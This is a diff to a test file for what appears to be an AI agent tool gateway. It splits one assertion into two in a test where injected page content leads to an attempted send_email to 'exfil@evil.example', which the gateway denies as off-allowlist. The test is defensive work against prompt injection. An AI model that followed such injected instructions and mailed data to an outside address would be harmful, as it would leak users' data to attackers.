@@ -183,7 +183,8 @@ def test_an_injected_email_to_a_recipient_outside_the_allowlist_is_denied_outrig
     fetch_page(gw, body=INJECTION)
     mail = gw.request("send_email", {"to": "exfil@evil.example", "subject": "backup", "body": "x"}, step=2)
     denied = only(gw.budget(mail), ToolCallDenied)
-    assert denied.reason_code == "CONSTRAINT_VIOLATION" and "'exfil@evil.example' is not on the allowlist" in denied.detail
+    assert denied.reason_code == "CONSTRAINT_VIOLATION"
+    assert "'exfil@evil.example' is not on the allowlist" in denied.detail
 
 
 # -- rate limits -------------------------------------------------------------------------------
